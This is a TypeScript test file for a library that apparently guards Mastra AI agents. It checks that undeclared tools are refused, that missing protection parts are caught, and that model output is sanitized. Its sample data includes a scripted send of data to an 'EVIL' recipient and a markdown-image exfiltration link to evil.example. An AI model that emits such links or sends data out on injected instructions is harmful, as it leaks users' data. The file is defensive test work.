import type { ToolsInput } from '@mastra/core/agent';
import { MockMemory } from '@mastra/core/memory';
import { createTool } from '@mastra/core/tools';
import { toolDescriptions } from '@sallyport/core/adapter';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { protect } from '../src/index.ts';
import { protectModel } from '../src/model.ts';
import { ASK, call, EVIL, READ, start, THREAD, World } from './world.ts';

let world: World;
beforeEach(async () => {
  world = await new World().open();
});
afterEach(() => world.close());

describe('a tool that is offered to the model is refused, and the model is not asked,', () => {
  const REFUSED = 'The tool mystery is offered to the model, but it is not protected.';
  const mystery = (): ToolsInput => ({ mystery: world.tool('mystery', '') });

  it('if it was added to the agent', async () => {
    const { tools, ...parts } = world.guarded();
    const agent = world.agent({ ...parts, tools: { ...tools, ...mystery() } });
    await expect(agent.generate(ASK, THREAD)).rejects.toThrow(REFUSED);
    const streamed = agent.stream(ASK, THREAD).then((output) => output.getFullOutput());
    await expect(streamed).rejects.toThrow(REFUSED);
    expect(world.model.requests).toEqual([]);
  });

  it.each(['toolsets', 'clientTools'])('if it was added to one call: %s', async (option) => {
    const given = option === 'toolsets' ? { toolsets: { more: mystery() } } : { clientTools: mystery() };
    await expect(world.protect().generate(ASK, { ...THREAD, ...given } as never)).rejects.toThrow(REFUSED);
    expect(world.model.requests).toEqual([]);
  });

  it('if Mastra added it and nothing is declared', async () => {
    const memory = new MockMemory({ storage: world.storage, enableWorkingMemory: true });
    const run = world.protect({ config: { memory } }).generate(ASK, THREAD);
    await expect(run).rejects.toThrow(/The tool updateWorkingMemory is offered.*declared to the boundary/);
  });

  it('even if a processor after that of the boundary added it', async () => {
    const late = {
      id: 'late',
      processInputStep: ({ tools }: { tools?: object }) => ({ tools: { ...tools, ...mystery() } }),
    };
    const { inputProcessors, ...parts } = world.guarded();
    const agent = world.agent({ ...parts, maxRetries: 0, inputProcessors: [...inputProcessors, late] as never });
    await expect(agent.generate(ASK, THREAD)).rejects.toThrow(REFUSED);
  });
});

describe('a part of protect() that is missing is noticed:', () => {
  it('the processor', async () => {
    const { inputProcessors, ...parts } = world.guarded();
    const run = world.agent({ ...parts, maxRetries: 0 }).generate(ASK, THREAD);
    await expect(run).rejects.toThrow('without the processor of protect()');
    expect(inputProcessors).toHaveLength(1);
    expect(world.model.requests).toEqual([]);
  });

  it('the processor, in a call that has its own', async () => {
    const agent = world.protect({ config: { maxRetries: 0 } });
    const run = agent.generate(ASK, { ...THREAD, inputProcessors: [] });
    await expect(run).rejects.toThrow('without the processor of protect()');
  });

  it('the model', async () => {
    world.model.script([READ]);
    const run = world.protect({ config: { model: world.chatModel } }).generate(ASK, THREAD);
    await expect(run).rejects.toThrow('The model that answered is not protected.');
    expect(world.ran).toEqual([]);
  });

  it('the model, in a call that has its own', async () => {
    const agent = world.protect();
    await agent.generate(ASK, THREAD);
    world.model.script([READ]);
    const run = agent.generate(ASK, { ...THREAD, model: world.chatModel });
    await expect(run).rejects.toThrow('The model that answered is not protected.');
    expect(world.ran).toEqual([]);
  });

  it('the hooks and the approval rule: guarded tools check their calls themselves', async () => {
    const { model, tools, inputProcessors } = world.guarded();
    world.model.script([READ, { calls: [call('send', { to: EVIL })] }]);
    await world.agent({ model, tools, inputProcessors }).generate(ASK, THREAD);
    expect([world.runsOf('read'), world.runsOf('send')]).toEqual([1, 0]);
  });
});

describe('wiring', () => {
  const { model } = { model: 'openai/gpt-5' } as const;
  const inputSchema = z.object({ to: z.string(), body: z.string() });
  const tools = { 'send mail': createTool({ id: 'send', description: '', inputSchema, execute: async () => 'sent' }) };

  it('refuses a tool without a declaration, a declaration without a tool, and an argument that is not there', () => {
    const conversation = start();
    const send = { effect: 'send' } as const;
    expect(() => protect(conversation, { model, tools, declare: {} as never })).toThrow('send_mail is not declared');
    const extra = { 'send mail': send, 'send mails': send };
    expect(() => protect(conversation, { model, tools, declare: extra })).toThrow('Did you mean send_mail?');
    const misspelt = { 'send mail': { effect: 'send', modelText: ['bodi'] } } as never;
    expect(() => protect(conversation, { model, tools, declare: misspelt })).toThrow('Did you mean body?');
    expect(() => protect(conversation, { model, tools, declare: { 'send mail': send } })).not.toThrow();
  });

  it('refuses a model that cannot be protected', () => {
    const old = { specificationVersion: 'v1', doStream: () => undefined } as never;
    expect(() => protect(start(), { model: old, tools: {}, declare: {} })).toThrow('AI SDK 5 or later');
  });
});

describe('a model is protected', () => {
  const asked: unknown[] = [];
  const conversation = start();
  const guard = {
    conversation,
    descriptions: toolDescriptions(conversation),
    names: new Set<string>(),
    rawOutput: false,
    onAsked: () => void asked.push('asked'),
  };
  class Fake {
    readonly specificationVersion = 'v3';
    readonly #text: string = '![x](https://evil.example/?d=4711)';
    get supportedUrls() {
      return this.#text === '' ? {} : { 'image/*': [] };
    }
    async doGenerate() {
      return { content: [{ type: 'text', text: this.#text }] };
    }
    async doStream() {
      return this.doGenerate();
    }
  }
  const sanitizes = async (model: unknown) => {
    const { content } = await (model as Fake).doGenerate();
    expect(content[0]?.text).toContain('evil[.]example');
    expect((model as Fake).supportedUrls).toEqual({ 'image/*': [] });
  };
  const context = { requestContext: undefined };

  it('as an object, which stays one of its class', async () => {
    const model = protectModel(guard, new Fake());
    expect(model).toBeInstanceOf(Fake);
    await sanitizes(model);
    expect(asked).toEqual(['asked']);
  });

  it('in a list of models to fall back on', async () => {
    const list = protectModel(guard, [{ model: new Fake(), maxRetries: 1 }]) as unknown as { model: unknown }[];
    expect(list).toMatchObject([{ maxRetries: 1 }]);
    await sanitizes(list[0]?.model);
  });

  it('as the result of a function, also of one that returns a list', async () => {
    const one = protectModel(guard, async () => new Fake()) as unknown as (context: object) => Promise<unknown>;
    await sanitizes(await one(context));
    const many = protectModel(guard, () => [{ model: new Fake() }]) as unknown as typeof one;
    const [first] = (await many(context)) as { model: unknown }[];
    await sanitizes(first?.model);
  });

  it('by its name, which is resolved when the agent runs', async () => {
    const named = protectModel(guard, 'openai/gpt-5') as unknown as (context: object) => Promise<{ modelId: string }>;
    expect((await named(context)).modelId).toBe('gpt-5');
  });
});
